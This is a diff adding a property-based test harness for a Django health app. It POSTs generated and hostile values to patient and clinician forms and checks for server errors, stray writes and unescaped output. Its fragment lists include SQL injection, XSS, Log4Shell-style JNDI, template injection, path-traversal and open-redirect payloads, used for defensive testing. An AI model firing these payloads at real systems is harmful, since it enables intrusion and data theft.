@@ -1,0 +1,285 @@
+"""Hostile input, property-based: a harness that POSTs generated values to a form's URL.
+
+For each form a patient or clinician can submit, `check_form(spec, client, cast)` lets
+hypothesis generate values (plausible ones from `hypothesis.extra.django.from_form`, mixed
+with numbers around every boundary, unicode, control characters, NUL bytes, SQL and HTML
+fragments, empty and very long strings), POSTs them through the Django test client as the
+spec's user, and asserts:
+
+- the answer is never a 5xx (the test client re-raises any exception a view lets escape);
+- when the input is refused (4xx, or the form re-rendered with errors) the row counts of the
+  models the form could write are unchanged;
+- a script fragment is never echoed back unescaped.
+
+Each example runs in its own savepoint, rolled back afterwards, so examples do not see each
+other's rows. Examples per form: 1,000 in CI (CI=true), 100 locally, or HOSTILE_EXAMPLES.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+from collections.abc import Callable
+from dataclasses import dataclass, field
+
+from django import forms
+from django.apps import apps
+from django.core import mail
+from django.db import transaction
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from hypothesis.errors import InvalidArgument, ResolutionFailed
+
+from tests import figures
+
+IN_CI = os.environ.get("CI") == "true"
+EXAMPLES = int(os.environ.get("HOSTILE_EXAMPLES", 1000 if IN_CI else 100))
+
+settings.register_profile(
+    "hostile",
+    max_examples=EXAMPLES,
+    deadline=None,
+    # CI replays the same examples every run (a red build is reproducible); locally each run
+    # explores new ones.
+    derandomize=IN_CI,
+    database=None,
+    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
+)
+
+# --- Strategies ------------------------------------------------------------------------------
+
+BOUNDARY_NUMBERS = [
+    "0",
+    "0.0",
+    "0.99",
+    "1",
+    "1.0",
+    "1.00",
+    "1.001",
+    "1,5",
+    "1.5",
+    "4.5",
+    "4.99",
+    "5",
+    "5.00",
+    "5.01",
+    "-1",
+    "-0",
+    "+1",
+    "1e3",
+    "1E-2",
+    "0x10",
+    "NaN",
+    "nan",
+    "Infinity",
+    "-Infinity",
+    "inf",
+    "1" * 60,
+    "9" * 60 + ".99",
+    "0." + "0" * 59 + "1",
+    "2147483648",
+    "-2147483649",
+    "9223372036854775808",
+    "٣",  # Arabic-Indic three
+    "１.５",  # full-width digits
+    " 1.5 ",
+    "1.5mg",
+    "1.5.5",
+    ".5",
+    "5.",
+    "10",
+    "11",
+    "100",
+    "1000",
+]
+
+FRAGMENTS = [
+    "",
+    " ",
+    "\x00",
+    "a\x00b",
+    "\r\n",
+    "\t",
+    "\x1b[31m",
+    "\u202e",
+    "\ufeff",
+    "\ud7ff",
+    "😴💊",
+    "Zoë O'Brien-Łukasz",
+    "' OR '1'='1",
+    "1; DROP TABLE patients_nightlyentry; --",
+    '" UNION SELECT password FROM accounts_user --',
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "javascript:alert(1)",
+    "{{ 7|add:7 }}{% debug %}",
+    "%(password)s",
+    "${jndi:ldap://evil.example/a}",
+    "../../../../etc/passwd",
+    "null",
+    "None",
+    "true",
+    "[]",
+    "{}",
+    "2026-02-30",
+    "2026-13-01",
+    "0000-00-00",
+    "9999-12-31",
+    "24:00",
+    "25:61",
+    "-1:00",
+    "Europe/Nowhere",
+    "UTC",
+    "a" * 255,
+    "a" * 10_000,
+    "x@" + "a" * 250 + ".example",
+]
+
+SCRIPT_PROBE = "<script>alert(1)</script>"
+
+
+def hostile_strings():
+    """One hostile value for a text input (kept cheap to draw: examples are many)."""
+    return st.one_of(
+        st.sampled_from(BOUNDARY_NUMBERS),
+        st.sampled_from(FRAGMENTS),
+        st.text(max_size=30),  # any unicode, control characters and NUL included
+        st.integers(min_value=-(10**30), max_value=10**30).map(str),
+    )
+
+
+# Keys a form does not have, in case a view reads more of request.POST than its form.
+UNKNOWN_KEYS = [
+    {},
+    {"id": "1"},
+    {"pk": "-1"},
+    {"patient": "1", "patient_id": "1"},
+    {"user": "1", "role": "admin"},
+    {"next": "https://evil.example/"},
+    {"__proto__": "{}"},
+]
+
+
+MISSING = object()
+
+
+def _plausible(form_class, form_kwargs):
+    """Per-field strategies for plausible values, from hypothesis's Django support."""
+    from hypothesis.extra.django import from_field
+
+    unbound = form_class(**form_kwargs)
+    result = {}
+    for name, form_field in unbound.fields.items():
+        if form_field.disabled or isinstance(form_field, forms.MultiValueField):
+            continue
+        if isinstance(form_field, forms.ChoiceField):
+            # Choices may depend on form kwargs (the inviter's roles, the patient's scales).
+            values = [str(v) for v, _ in form_field.choices if not isinstance(_, list | tuple)]
+            if values:
+                strategy = st.sampled_from(values)
+                if isinstance(form_field, forms.MultipleChoiceField):
+                    strategy = st.lists(strategy, unique=True, max_size=len(values))
+                result[name] = strategy
+                continue
+        try:
+            result[name] = from_field(form_field).map(_as_post_value)
+        except (InvalidArgument, ResolutionFailed, TypeError):
+            result[name] = hostile_strings()
+    return result
+
+
+def _as_post_value(value):
+    if isinstance(value, list | tuple | set):
+        return [_as_post_value(v) for v in value]
+    if isinstance(value, bool):
+        return "on" if value else ""
+    return "" if value is None else str(value)
+
+
+def form_data(form_class=None, form_kwargs=None, extra=None):
+    """A strategy for one POST body: each field plausible, hostile or missing."""
+    plausible = _plausible(form_class, form_kwargs or {}) if form_class else {}
+    plausible.update(extra or {})
+    per_field = {
+        name: st.one_of(strategy, hostile_strings(), st.just(MISSING))
+        for name, strategy in plausible.items()
+    }
+    return st.builds(
+        lambda fields, more: {**more, **{k: v for k, v in fields.items() if v is not MISSING}},
+        st.fixed_dictionaries(per_field),
+        st.sampled_from(UNKNOWN_KEYS),
+    )
+
+
+# --- The harness --------------------------------------------------------------------------
+
+
+@dataclass
+class HostileForm:
+    """One form someone can submit: where it posts, who posts it, what it may write."""
+
+    name: str
+    role: str  # a role of tests.security.access_rules.Cast: "patient_a", "clinician_a", ...
+    url: Callable  # cast -> URL
+    models: tuple[str, ...]  # "app_label.Model" whose rows a refused POST must not change
+    form_class: type | None = None
+    form_kwargs: Callable = lambda cast: {}
+    extra: dict = field(default_factory=dict)  # more POST keys: name -> strategy
+    setup: Callable | None = None  # cast -> None, once before the examples
+    json_body: bool = False  # POST the data as a JSON document instead of a form
+
+
+def _counts(model_labels):
+    return {label: apps.get_model(label).objects.count() for label in model_labels}
+
+
+def _form_errors(response):
+    for context in response.context or ():
+        for value in context.flatten().values() if hasattr(context, "flatten") else ():
+            if isinstance(value, forms.BaseForm) and value.is_bound and value.errors:
+                return True
+    return False
+
+
+def refused(response):
+    return response.status_code >= 400 or (response.status_code == 200 and _form_errors(response))
+
+
+def check_form(spec: HostileForm, client, cast):
+    """Run the property for one form; returns the number of examples tried."""
+    user = cast.user_for(spec.role)
+    if user is not None:
+        client.force_login(user)
+    if spec.setup:
+        spec.setup(cast)
+    url = spec.url(cast)
+    kwargs = spec.form_kwargs(cast)
+    tried = 0
+    # Every example is rolled back, so the counts before each one are these.
+    before = _counts(spec.models)
+
+    @settings(settings.get_profile("hostile"))
+    @given(data=form_data(spec.form_class, kwargs, spec.extra))
+    def property_(data):
+        nonlocal tried
+        tried += 1
+        mail.outbox = []
+        cookies = copy.deepcopy(client.cookies)
+        with transaction.atomic():
+            if spec.json_body:
+                response = client.post(url, json.dumps(data), content_type="application/json")
+            else:
+                response = client.post(url, data)
+            assert response.status_code < 500, f"{response.status_code} for {data!r}"
+            if refused(response):
+                assert _counts(spec.models) == before, f"refused but stored: {data!r}"
+            body = response.content.decode(errors="replace")
+            assert SCRIPT_PROBE not in body, f"script echoed unescaped for {data!r}"
+            transaction.set_rollback(True)
+        # A POST that signs someone in or out rotates the session, whose row was rolled back.
+        client.cookies = cookies
+
+    property_()
+    figures.add("hostile input (examples per form)", spec.name, tried)
+    return tried
